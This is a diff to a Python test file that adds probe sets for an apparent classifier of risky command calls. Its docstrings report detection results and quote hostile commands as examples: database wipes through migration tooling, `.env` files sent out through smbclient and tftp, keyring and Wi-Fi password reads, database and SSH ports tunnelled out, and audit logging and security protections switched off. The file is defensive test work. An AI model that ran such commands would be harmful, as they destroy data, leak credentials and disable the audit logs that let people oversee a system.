@@ -205,6 +205,9 @@ PROBES_FG = Path(__file__).resolve().parent / "data" / "classifier_probes_fg.jso
 PROBES_FH = Path(__file__).resolve().parent / "data" / "classifier_probes_fh.jsonl"
 PROBES_FI = Path(__file__).resolve().parent / "data" / "classifier_probes_fi.jsonl"
 PROBES_FJ = Path(__file__).resolve().parent / "data" / "classifier_probes_fj.jsonl"
+PROBES_FK = Path(__file__).resolve().parent / "data" / "classifier_probes_fk.jsonl"
+PROBES_FL = Path(__file__).resolve().parent / "data" / "classifier_probes_fl.jsonl"
+PROBES_FM = Path(__file__).resolve().parent / "data" / "classifier_probes_fm.jsonl"
 
 
 def _critical_recall(s: Score) -> float:
@@ -3432,6 +3435,66 @@ def test_probes_fj() -> None:
     _round_holds(*_worked_and_aside(PROBES_FJ, "probes FJ"), "fj", 13, 3)
 
 
+def test_probes_fk() -> None:
+    """Set FK (31 calls: a database wiped by its own tooling — EF Core's `database drop`,
+    Ecto's `ecto.drop`/`ecto.reset`, Doctrine's `schema:drop`/`database:drop`, Rails'
+    `db:schema:load` and `db:seed:replant`, Django's `flush`, Prisma's `db push --force-reset`,
+    TypeORM's and MikroORM's `schema:drop`, dbmate, Atlas, Flyway, Liquibase, golang-migrate,
+    goose, sqlx, Diesel, every migration undone by sequelize and knex; with look-alikes:
+    migrations applied, `--dump-sql`, status and listings, a database created, seeds written;
+    21 critical, 10 others; 10 aside). Labelled before running; run once on the commit before
+    (41fc764): 8 of 13 worked critical blocked, none raised, 13 of 21 exact. Handled: a
+    database's tooling read by its subcommand's words (effects.yaml `database_tools`): a wipe
+    verb after a database noun (`doctrine:schema:drop`, `ef database drop`) or given to a tool
+    whose business is a database (`dbmate drop`, `goose … reset`, `mix ecto.reset`) drops every
+    table, a rollback of every migration too; a migrate verb there is a schema change;
+    `--dump-sql` only prints. After: 13 of 13, none raised, 21 of 21 exact. The aside rows,
+    run once after: 7 of 8 critical blocked (`atlas schema clean` missed: `atlas` is also
+    MongoDB's cloud CLI, whose programs the reader skipped; now only the migrate verbs skip
+    them), none raised, 9 of 10 exact."""
+    _round_holds(*_worked_and_aside(PROBES_FK, "probes FK"), "fk", 21, 10)
+
+
+def test_probes_fl() -> None:
+    """Set FL (24 calls: credential stores and odd channels — a browser's saved passwords, a
+    desktop, kernel and KDE keyring read, a Wi-Fi password shown, credential files sent by
+    FTP, TFTP, SMB, ICMP padding and netcat, Terraform state posted, a database port tunnelled
+    out, cookies uploaded; with look-alikes: shares listed, a build uploaded, profiles and
+    state listed, a boot file fetched, a dev server tunnelled; 11 critical, 13 others; 8
+    aside). Labelled before running; run once on the commit before (41fc764): 6 of 8 worked
+    critical blocked, none raised, 12 of 16 exact. Handled: a file-transfer client's own
+    commands (`smbclient //h/s -c 'put .env'`, `tftp h -c put F`, `lftp -e 'put F' h`) send
+    what each `put` names to the host it reaches; `smbclient -L` lists; `netsh wlan show
+    profile key=clear` reads a secret. After: 8 of 8, none raised, 16 of 16 exact. The aside
+    rows, run once after: 2 of 3 critical blocked (a database port given to localtunnel
+    missed), none raised, 4 of 8 exact (three keyring reads low); handled after: keyring
+    reads (`secret-tool lookup`, `keyctl print`, `kwallet-query -r`) and tunnels of a
+    remote-access or data-store port (`lt --port 5432`, `ngrok http 22`), as cloudflared's."""
+    _round_holds(*_worked_and_aside(PROBES_FL, "probes FL"), "fl", 16, 8)
+
+
+def test_probes_fm() -> None:
+    """Set FM (25 calls: audit and protections off in other places — auditd masked, a trail and
+    its log group deleted, flow logs deleted, an audit sink removed, Exchange's admin audit
+    and a mailbox's audit bypass, pgaudit off, ptrace and AppArmor off, macOS quarantine off,
+    a cluster's control plane opened, pod security off in production, `Defaults
+    !authenticate`; with look-alikes: trails, log groups, sinks and settings listed or read,
+    one dev log stream deleted, a warn-only label in a sandbox, an audit rule added; 14
+    critical, 11 others; 8 aside). Labelled before running; run once on the commit before
+    (41fc764): 4 of 8 worked critical blocked, none raised, 12 of 17 exact. Handled: a
+    security noun built of two or three words (`delete-flow-logs`, `password-policy`); a
+    `--no-enable-…` option naming a security control; a cloud service named like a verb
+    (`aws logs delete-log-group`) then its subcommand; a log's group or stream deleted is an
+    item, an audit trail's logs (an audit word in an argument) a weakening; PostgreSQL's
+    `pgaudit.log` set to `none`. One label corrected after the first run (`sudo aa-status`:
+    a privileged shell is high by the rubric). After: 8 of 8, none raised, 17 of 17 exact.
+    The aside rows, run once after: 5 of 6 critical blocked (macOS quarantine off missed), 1
+    raised (one dev log stream deleted read as a data location: the log rule above), 5 of 8
+    exact; one label corrected (`sudo auditctl …` is high, as root); handled after: the
+    quarantine setting written off."""
+    _round_holds(*_worked_and_aside(PROBES_FM, "probes FM"), "fm", 17, 8)
+
+
 # The rows kept aside were run once, when every round was done: 20 of 27 critical blocked
 # (J 7/7, K 4/5, L 2/4, M 1/3, N 2/2, O 1/3, P 2/2, Q 1/1) and one of the 2 look-alikes raised (Q:
 # `sqlite3 test.db 'DELETE FROM fixtures;'`) — about 0.74, the honest estimate for calls of
@@ -3595,6 +3658,9 @@ ASIDE = {
     "fh": (1.0, 0),  # 2/2 when run once
     "fi": (1.0, 0),  # 1/2 when run once; an access key for `root-admin` handled after
     "fj": (1.0, 0),  # 2/2 after two label corrections (noted)
+    "fk": (1.0, 0),  # 7/8 when run once; `atlas schema clean` handled after
+    "fl": (1.0, 0),  # 2/3 when run once; a tunnelled database port handled after
+    "fm": (1.0, 0),  # 5/6 and 1 raised when run once; both handled after
 }
 
 # (critical recall at least, non-critical calls raised to critical at most, risk exact at least)
